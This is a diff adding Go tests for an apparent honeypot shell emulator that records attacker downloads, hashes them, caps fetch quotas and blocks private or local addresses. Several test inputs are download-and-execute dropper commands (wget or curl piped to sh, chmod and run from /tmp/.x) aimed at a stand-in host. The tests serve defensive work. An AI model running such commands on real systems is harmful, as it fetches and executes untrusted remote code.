@@ -0,0 +1,235 @@
+package shell
+
+import (
+	"errors"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"reflect"
+	"strings"
+	"testing"
+	"time"
+)
+
+// the recorder that keeps the downloads.
+type fakeRecorder struct {
+	downloads []Download
+}
+
+func (r *fakeRecorder) Credential(session *Session, username, password string) {}
+
+func (r *fakeRecorder) Command(session *Session, command, script string) {}
+
+func (r *fakeRecorder) Download(session *Session, download Download) {
+	r.downloads = append(r.downloads, download)
+}
+
+func TestDownload(t *testing.T) {
+	const script = "echo pwned"
+
+	fetch := func(rawURL string, limit int) ([]byte, error) {
+		if strings.Contains(rawURL, "missing") {
+			return nil, errors.New("not found")
+		}
+		return []byte(script + "\n"), nil
+	}
+
+	cases := []struct {
+		line      string
+		fetch     Fetcher
+		output    string
+		downloads []Download
+		file      string
+	}{
+		{
+			line:      "wget -q http://203.0.113.1/x.sh; cat x.sh",
+			fetch:     fetch,
+			output:    script,
+			downloads: []Download{{URL: "http://203.0.113.1/x.sh", Filename: "/home/alice/x.sh", Size: 11}},
+			file:      "/home/alice/x.sh",
+		},
+		{
+			line:      "wget -qO- 203.0.113.1/x.sh | sh",
+			fetch:     fetch,
+			output:    "pwned",
+			downloads: []Download{{URL: "http://203.0.113.1/x.sh", Size: 11}},
+		},
+		{
+			line:      "curl -fsSL https://203.0.113.1/x.sh | sh",
+			fetch:     fetch,
+			output:    "pwned",
+			downloads: []Download{{URL: "https://203.0.113.1/x.sh", Size: 11}},
+		},
+		{
+			line:      "curl -s -o /tmp/.x http://203.0.113.1/x.sh && chmod +x /tmp/.x && /tmp/.x",
+			fetch:     fetch,
+			output:    "pwned",
+			downloads: []Download{{URL: "http://203.0.113.1/x.sh", Filename: "/tmp/.x", Size: 11}},
+			file:      "/tmp/.x",
+		},
+		{
+			line:      "cd /tmp; curl -O http://203.0.113.1/bin/x86",
+			fetch:     fetch,
+			downloads: []Download{{URL: "http://203.0.113.1/bin/x86", Filename: "/tmp/x86", Size: 11}},
+			file:      "/tmp/x86",
+		},
+		{
+			line:      "wget -q http://203.0.113.1/x.sh",
+			output:    "wget: unable to resolve host address ‘203.0.113.1’",
+			downloads: []Download{{URL: "http://203.0.113.1/x.sh", Filename: "/home/alice/x.sh"}},
+		},
+		{
+			line:      "curl http://missing.example.com/x.sh || echo failed",
+			fetch:     fetch,
+			output:    "curl: (6) Could not resolve host: missing.example.com\nfailed",
+			downloads: []Download{{URL: "http://missing.example.com/x.sh"}},
+		},
+		{line: "wget", output: "wget: missing URL\nUsage: wget [OPTION]... [URL]...\n\nTry `wget --help' for more options."},
+		{line: "curl -s", output: "curl: try 'curl --help' or 'curl --manual' for more information"},
+	}
+
+	for _, c := range cases {
+		t.Run(c.line, func(t *testing.T) {
+			recorder := &fakeRecorder{}
+			r := New(NewSession("", "alice", nil))
+			r.Recorder = recorder
+			r.Fetch = c.fetch
+
+			if output := r.Exec(c.line); output != c.output {
+				t.Errorf("expect the output %q, got %q", c.output, output)
+			}
+
+			for index := range recorder.downloads {
+				if recorder.downloads[index].Size > 0 && recorder.downloads[index].SHA256 == "" {
+					t.Errorf("expect the hash of the fetched download: %+v", recorder.downloads[index])
+				}
+				recorder.downloads[index].SHA256 = ""
+			}
+
+			if !reflect.DeepEqual(recorder.downloads, c.downloads) {
+				t.Errorf("expect the downloads %+v, got %+v", c.downloads, recorder.downloads)
+			}
+
+			if c.file != "" {
+				if data, err := r.Session.FS.ReadFile(c.file); err != nil || string(data) != script+"\n" {
+					t.Errorf("expect the downloaded file %s, got %q: %v", c.file, data, err)
+				}
+			}
+		})
+	}
+}
+
+func TestDownloadHash(t *testing.T) {
+	recorder := &fakeRecorder{}
+	r := New(NewSession("", "alice", nil))
+	r.Recorder = recorder
+	r.Fetch = func(string, int) ([]byte, error) { return []byte("abc"), nil }
+
+	r.Exec("curl -s http://203.0.113.1/abc")
+
+	// the SHA-256 of "abc"
+	expect := "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
+	if len(recorder.downloads) != 1 || recorder.downloads[0].SHA256 != expect {
+		t.Errorf("expect the SHA-256 %s, got %+v", expect, recorder.downloads)
+	}
+}
+
+func TestPublic(t *testing.T) {
+	cases := map[string]bool{
+		"203.0.113.1":            true,
+		"8.8.8.8":                true,
+		"2001:4860::1":           true,
+		"127.0.0.1":              false,
+		"10.1.2.3":               false,
+		"172.16.0.1":             false,
+		"192.168.1.1":            false,
+		"169.254.169.254":        false,
+		"100.64.0.1":             false,
+		"0.0.0.0":                false,
+		"::1":                    false,
+		"fe80::1":                false,
+		"fd00::1":                false,
+		"224.0.0.1":              false,
+		"0.1.2.3":                false,
+		"192.0.0.8":              false,
+		"198.18.0.1":             false,
+		"198.19.255.255":         false,
+		"240.0.0.1":              false,
+		"255.255.255.255":        false,
+		"::ffff:127.0.0.1":       false,
+		"::ffff:10.1.2.3":        false,
+		"::ffff:169.254.169.254": false,
+		"::ffff:203.0.113.1":     true,
+		"::127.0.0.1":            false,
+		"64:ff9b::a9fe:a9fe":     false,
+		"64:ff9b::cb00:7101":     false,
+		"fc00::1":                false,
+	}
+
+	for ip, expect := range cases {
+		if got := public(net.ParseIP(ip)); got != expect {
+			t.Errorf("expect %v of %s, got %v", expect, ip, got)
+		}
+	}
+}
+
+func TestDownloadQuota(t *testing.T) {
+	cases := []struct {
+		name    string
+		size    int
+		fetches int
+		limits  []int
+	}{
+		// the number of the fetches is capped
+		{name: "fetches", size: 16, fetches: maxSessionFetches, limits: []int{maxFileSize, maxFileSize, maxFileSize, maxFileSize, maxFileSize, maxFileSize, maxFileSize, maxFileSize}},
+		// the total bytes is capped, the last fetch is limited to the rest
+		{name: "bytes", size: 3 << 20, fetches: 6, limits: []int{maxFileSize, maxFileSize, maxFileSize, maxFileSize, maxFileSize, 1 << 20}},
+	}
+
+	for _, c := range cases {
+		t.Run(c.name, func(t *testing.T) {
+			var limits []int
+			recorder := &fakeRecorder{}
+			r := New(NewSession("", "alice", nil))
+			r.Recorder = recorder
+			r.Fetch = func(_ string, limit int) ([]byte, error) {
+				limits = append(limits, limit)
+				return make([]byte, min(c.size, limit)), nil
+			}
+
+			for index := 0; index < 2*maxSessionFetches; index++ {
+				r.Exec("wget -qO- http://203.0.113.1/x > /dev/null")
+			}
+
+			switch {
+			case len(limits) != c.fetches || !reflect.DeepEqual(limits, c.limits):
+				t.Errorf("expect the limits %v, got %v", c.limits, limits)
+			case len(recorder.downloads) != 2*maxSessionFetches:
+				t.Errorf("expect all the downloads recorded, got %d", len(recorder.downloads))
+			case recorder.downloads[len(recorder.downloads)-1].SHA256 != "":
+				t.Errorf("expect no hash over the quota, got %+v", recorder.downloads[len(recorder.downloads)-1])
+			}
+		})
+	}
+}
+
+func TestFetcherBlocked(t *testing.T) {
+	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		_, _ = w.Write([]byte("secret"))
+	}))
+	defer server.Close()
+
+	fetch := NewFetcher(time.Second)
+	cases := []string{
+		server.URL,
+		strings.Replace(server.URL, "127.0.0.1", "localhost", 1),
+		"file:///etc/passwd",
+		"ftp://203.0.113.1/x",
+	}
+
+	for _, rawURL := range cases {
+		if data, err := fetch(rawURL, maxFileSize); err == nil {
+			t.Errorf("expect %s blocked, got %q", rawURL, data)
+		}
+	}
+}